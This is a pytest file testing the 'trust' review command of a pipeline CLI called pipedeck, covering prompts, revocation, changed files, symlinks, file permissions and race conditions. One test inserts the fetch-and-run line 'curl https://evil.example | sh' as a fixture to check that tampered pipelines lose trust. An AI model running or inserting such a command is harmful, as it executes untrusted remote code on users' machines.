"""`pipedeck trust`: review, then trust exactly what was shown; the real CLI in a real repo."""

from __future__ import annotations

import hashlib
import json
import subprocess
import threading
from pathlib import Path

from pipedeck.engine.trust import TrustStore
from tests.conftest import PIPEDECK, RepoMaker, run_cli
from tests.engine.test_trust import CI

DEPLOY = """
name: deploy
stages:
  - name: Ship
    actions:
      - {name: upload, kind: deploy, run: ./upload.sh --prod}
"""


def answer(repo: Path, text: str, *args: str) -> subprocess.CompletedProcess[str]:
    """`pipedeck trust` with `text` typed at its prompts."""
    return subprocess.run(
        [*PIPEDECK, "trust", *args],
        cwd=repo,
        input=text,
        capture_output=True,
        text=True,
        timeout=60,
    )


def listed(repo: Path) -> dict[str, str]:
    result = run_cli("trust", "--list", cwd=repo, check=True)
    return {path: state for state, path in (line.split() for line in result.stdout.splitlines())}


def test_list_shows_every_pipeline_file_as_new(repo: RepoMaker) -> None:
    repo.pipeline(CI)
    repo.pipeline(DEPLOY, "deploy")
    repo.write("pipelines/.ci.yml.swp", "junk")
    assert listed(repo.root) == {"pipelines/ci.yml": "new", "pipelines/deploy.yml": "new"}


def test_yes_shows_the_commands_and_trusts_every_file(repo: RepoMaker, trust_file: Path) -> None:
    ci = repo.pipeline(CI)
    repo.pipeline(DEPLOY, "deploy")
    result = run_cli("trust", "--yes", cwd=repo.root)
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert "pipelines/ci.yml: new (never trusted); it runs:" in out
    lines = out.splitlines()
    compile_row = next(line for line in lines if "Build/compile" in line)
    assert compile_row.split() == ["Build/compile", "build", "make", "all"]
    # A multi-line command keeps its lines, under the command column.
    assert lines[lines.index(compile_row) + 1].strip() == "make check"
    assert compile_row.index("make all") == lines[lines.index(compile_row) + 1].index("make check")
    assert any(line.split()[:2] == ["Source/checkout", "source"] for line in lines)
    assert "waits for approval" in out
    assert "./upload.sh --prod" in out
    assert "pipelines/ci.yml: trusted" in out
    assert listed(repo.root) == {"pipelines/ci.yml": "trusted", "pipelines/deploy.yml": "trusted"}
    assert str(ci.resolve()) in json.loads(trust_file.read_text())

    again = run_cli("trust", cwd=repo.root)
    assert again.returncode == 0, again.stderr
    assert "pipelines/ci.yml: already trusted" in again.stdout
    assert "Trust " not in again.stdout


def test_the_user_answers_each_prompt(repo: RepoMaker) -> None:
    repo.pipeline(CI)
    repo.pipeline(DEPLOY, "deploy")
    result = answer(repo.root, "y\nn\n")
    assert "Trust pipelines/ci.yml? [y/N]" in result.stdout
    assert "Trust pipelines/deploy.yml? [y/N]" in result.stdout
    assert "pipelines/deploy.yml: not trusted" in result.stdout
    assert result.returncode == 1  # not everything asked for ended trusted
    assert listed(repo.root) == {"pipelines/ci.yml": "trusted", "pipelines/deploy.yml": "new"}

    # The default answer is no.
    assert answer(repo.root, "\n", "pipelines/deploy.yml").returncode == 1
    assert listed(repo.root)["pipelines/deploy.yml"] == "new"


def test_a_changed_file_is_untrusted_until_reviewed_again(repo: RepoMaker) -> None:
    ci = repo.pipeline(CI)
    run_cli("trust", "--yes", cwd=repo.root, check=True)
    ci.write_text(CI.replace("make check", "curl https://evil.example | sh"))
    assert listed(repo.root) == {"pipelines/ci.yml": "changed"}

    result = answer(repo.root, "y\n", "pipelines/ci.yml")
    assert result.returncode == 0, result.stderr
    assert "pipelines/ci.yml: changed since it was trusted" in result.stdout
    assert "curl https://evil.example | sh" in result.stdout
    assert listed(repo.root) == {"pipelines/ci.yml": "trusted"}


def test_revoke(repo: RepoMaker) -> None:
    repo.pipeline(CI)
    run_cli("trust", "--yes", cwd=repo.root, check=True)
    result = run_cli("trust", "--revoke", "pipelines/ci.yml", cwd=repo.root)
    assert result.returncode == 0, result.stderr
    assert "pipelines/ci.yml: revoked" in result.stdout
    assert listed(repo.root) == {"pipelines/ci.yml": "new"}
    again = run_cli("trust", "--revoke", "pipelines/ci.yml", cwd=repo.root)
    assert "was not trusted" in again.stdout


def test_a_broken_file_is_refused_with_located_errors(repo: RepoMaker) -> None:
    repo.pipeline(CI)
    repo.pipeline(DEPLOY.replace("kind: deploy", "kind: deplyo"), "deploy")
    result = run_cli("trust", "--yes", cwd=repo.root)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    located = [line for line in result.stderr.splitlines() if line.startswith("pipelines/")]
    assert located and located[0].startswith("pipelines/deploy.yml:6:"), result.stderr
    assert "kind" in located[0]
    assert listed(repo.root) == {"pipelines/ci.yml": "trusted", "pipelines/deploy.yml": "new"}


def test_works_from_outside_the_repository(repo: RepoMaker, tmp_path: Path) -> None:
    repo.pipeline(CI)
    result = run_cli("--repo", str(repo.root), "trust", "--yes", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert TrustStore().is_trusted(repo.root / "pipelines" / "ci.yml")


def test_a_damaged_trust_file_is_reported(repo: RepoMaker, trust_file: Path) -> None:
    repo.pipeline(CI)
    trust_file.write_text("{oops")
    result = run_cli("trust", "--list", cwd=repo.root)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert str(trust_file) in result.stderr
    assert trust_file.read_text() == "{oops"


def test_options_that_contradict_each_other_are_refused(repo: RepoMaker) -> None:
    repo.pipeline(CI)
    result = run_cli("trust", "--list", "--yes", cwd=repo.root)
    assert result.returncode == 1
    assert "do not go together" in result.stderr


def test_demo_trusts_its_own_pipeline(tmp_path: Path) -> None:
    directory = tmp_path / "sample"
    result = run_cli("demo", str(directory), "--headless", "--approve", cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    trusted = run_cli("--repo", str(directory), "trust", "--list", cwd=tmp_path, check=True)
    assert trusted.stdout.split() == ["trusted", "sample/pipelines/demo.yml"]


def test_a_symlink_out_of_the_repository_borrows_no_trust(repo: RepoMaker, tmp_path: Path) -> None:
    other = tmp_path / "other"
    (other / "pipelines").mkdir(parents=True)
    theirs = other / "pipelines" / "ci.yml"
    theirs.write_text(CI)
    TrustStore().trust(theirs)  # trusted there, for that repository
    (repo.root / "pipelines").mkdir()
    (repo.root / "pipelines" / "ci.yml").symlink_to(theirs)
    refused = run_cli("trust", "--yes", cwd=repo.root)
    assert refused.returncode == 1
    assert f"is a symlink to {theirs}, outside the repository; refused" in refused.stderr
    repo.commit("link")
    run = run_cli("run", "ci", cwd=repo.root)
    assert run.returncode == 1
    assert "outside the repository; refused" in run.stderr
    assert "Traceback" not in refused.stderr + run.stderr


def test_a_trust_file_others_can_write_grants_nothing(repo: RepoMaker, trust_file: Path) -> None:
    repo.pipeline(CI)
    run_cli("trust", "--yes", cwd=repo.root, check=True)
    trust_file.chmod(0o666)
    for args in (("trust", "--list"), ("trust", "--yes")):
        result = run_cli(*args, cwd=repo.root)
        assert result.returncode == 1, args
        assert result.stderr == (
            f"pipedeck: the trust file {trust_file} is ignored: it must be a file of yours that"
            f" only you can write (chmod 600 {trust_file})\n"
        )
    trust_file.chmod(0o600)
    assert listed(repo.root) == {"pipelines/ci.yml": "trusted"}


def test_what_is_recorded_is_what_was_shown_while_the_file_changes(repo: RepoMaker) -> None:
    """A writer swaps the file between two contents while `trust` reads it."""
    first, second = CI, CI.replace("make", "make --second")
    path = repo.pipeline(first)
    stop = threading.Event()

    def swap() -> None:
        texts = [second, first]
        while not stop.is_set():
            tmp = path.with_name(".swap.tmp")
            tmp.write_text(texts[0])
            tmp.replace(path)
            texts.reverse()

    writer = threading.Thread(target=swap)
    writer.start()
    try:
        for _ in range(8):
            TrustStore().revoke(path)
            result = run_cli("trust", "--yes", cwd=repo.root)
            if result.returncode != 0:
                assert "changed since it was shown" in result.stderr
                continue
            recorded = TrustStore().entries()[str(path.resolve())]["sha256"]
            shown = "second" if "make --second" in result.stdout else "first"
            expected = first if shown == "first" else second
            assert recorded == hashlib.sha256(expected.encode()).hexdigest(), result.stdout
    finally:
        stop.set()
        writer.join()
